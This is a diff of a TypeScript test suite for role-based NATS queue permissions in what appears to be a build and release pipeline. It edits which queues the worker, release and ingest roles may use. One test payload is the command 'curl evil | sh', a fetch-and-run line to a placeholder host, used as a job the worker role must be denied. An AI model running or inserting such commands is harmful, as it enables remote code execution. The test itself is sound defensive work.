@@ -199,7 +199,7 @@ describe('NATS permissions per role', () => {
 
   it('refuses a job from a worker; the release runner issues jobs a worker takes', async () => {
     const worker = await as('worker');
-    for (const queue of ['build', 'gate', 'sign', 'sbom']) {
+    for (const queue of ['build', 'sign', 'sbom']) {
       await expect(
         worker.enqueueJob(queue, text('{"cmd":"curl evil | sh"}'), {
           platform: 'linux-x64',
@@ -210,7 +210,6 @@ describe('NATS permissions per role', () => {
     const release = await as('release');
     await release.ensureTopology(); // the streams exist: it only looks
     await release.enqueueJob('build', text('job-1'), { platform: 'linux-x64', msgId: 'job-1' });
-    await release.enqueueJob('gate', text('gate-1'), { msgId: 'gate-1' });
     expect(await release.queueDepth('build')).toBe(1);
     await expect(
       release.consumeJobs('build', { platform: 'linux-x64' }, () => undefined),
@@ -230,8 +229,8 @@ describe('NATS permissions per role', () => {
     await ingest.reject(text('{oops'), 'not JSON');
     await (await as('worker')).reject(text('{"job":'), 'malformed job');
     expect((await ingest.readRejected()).map((entry) => entry.reason)).toEqual(['not JSON', 'malformed job']);
-    await ingest.enqueueJob('publish', text('on behalf of the release runner'), { msgId: 'publish-1' });
-    expect(await ingest.queueDepth('publish')).toBe(1);
+    await ingest.enqueueJob('sbom', text('on behalf of the release runner'), { msgId: 'sbom-1' });
+    expect(await ingest.queueDepth('sbom')).toBe(1);
     for (const user of ['worker', 'ci', 'release']) {
       await expect((await as(user)).readRejected()).rejects.toMatchObject(denied);
     }
